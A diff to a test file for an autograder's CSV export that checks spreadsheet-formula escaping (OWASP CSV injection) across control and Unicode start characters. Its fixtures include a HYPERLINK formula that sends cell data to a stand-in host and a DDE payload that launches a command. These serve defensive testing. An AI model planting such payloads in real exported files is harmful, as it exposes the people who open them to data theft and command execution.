@@ -208,7 +208,7 @@ def test_similarity_with_a_function_starter_excludes_the_starter():
 
 # ---- spreadsheet formulas (OWASP's CSV injection) ----------------------------------------------------------
 
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", " ", "\xa0", "＝", "＋", "－", "＠")
 LINK_FILE = '=HYPERLINK("x.test?leak="&E2&F2,"open").ipynb'  # no "/": it is a file name
 HOSTILE = {":name": '=HYPERLINK("x.test?leak="&E2&F2,"open")', ":sid": "+1+cmd|' /C calc'!A0", ":email": "@SUM(1+1)"}
 EVE = {":name": "=1+1 Eve", ":sid": "", ":email": "eve@uni.edu"}  # no SID: the sheet keys her row by name
@@ -256,7 +256,8 @@ def hostile(release, tmp_path_factory):
                                  ["Nobody, Else", "603", "N3", "nobody", "Sec 1"]])
     out, _ = release
     zip_path = out / "autograder/practice-autograder.zip"
-    canvas = {"roster": roster, "assignment": "Practice 3.1 (222)"}
+    # Eve's login is her email's user part: it matches with the roster's domain named (canvas.py)
+    canvas = {"roster": roster, "assignment": "Practice 3.1 (222)", "login_domain": "uni.edu"}
     reports = {name: grade_batch(base / name, zip_path, base / f"graded-{name}", jobs=2, progress=False, canvas=canvas, **LIMITS)
                for name in ("folder", "export")}
     return base, reports
@@ -268,7 +269,12 @@ def test_spreadsheet_cells_escape_text_formulas_and_keep_numbers(tmp_path):
     assert safe_cell(-1.5) == "-1.5" and safe_cell(23.0) == "23" and safe_cell(0.25) == "0.25" and safe_cell(-3) == "-3"
     assert safe_cell("-1.5") == "'-1.5"  # decided by type: text that reads as a number is still text
     assert safe_cell("=1+1") == "'=1+1" and safe_cell("+1") == "'+1" and safe_cell("@SUM(A1)") == "'@SUM(A1)"
-    assert safe_cell("\t=1+1") == "'\t=1+1" and safe_cell("\r=1+1") == "'\r=1+1"
+    # every OWASP / ASVS start, its Unicode forms and whatever a spreadsheet skips before one: a control
+    # character becomes "?" (text.py), anything else that could start a formula gets its "'"
+    for start in ("\t", "\r", "\n", "\0", "\v", "\x1b", "\u200b", "\u202e"):
+        assert safe_cell(start + "=1+1") == "?=1+1", repr(start)
+    for start in ("\xa0", " ", "\u3000", "＝", "＋", "－", "＠", "﹦", "﹢", "⁼"):
+        assert safe_cell(start + "1+1") == "'" + start + "1+1", repr(start)
     assert safe_cell("Ana") == "Ana" and safe_cell("a=b") == "a=b" and safe_cell("") == "" and safe_cell(None) == ""
     assert safe_cell(safe_cell("=1+1")) == "'=1+1"  # idempotent: a sheet read back compares equal
     write_csv(tmp_path / "t.csv", ["name", "total", "=h"], [{"name": "=1+1", "total": -1.5}, ["Ana", 2.0, None]])
@@ -296,7 +302,7 @@ def test_a_file_name_that_is_a_formula_is_text_in_every_csv(hostile):
     (row,) = _csv(graded / "grades.csv")
     assert row["submission"] == "'" + LINK_FILE and float(row["total"]) == 23 and row["total"] == "23"  # a number
     (unmatched,) = _csv(graded / "canvas-unmatched.csv")
-    assert unmatched["submission"] == "'" + LINK_FILE and unmatched["reason"] == "no roster row has this SID or login"
+    assert unmatched["submission"] == "'" + LINK_FILE and unmatched["reason"].startswith("no roster row has this SID, Canvas ID or login")
 
 
 def test_export_names_sids_and_emails_that_are_formulas_are_text_and_ids_are_validated(hostile):
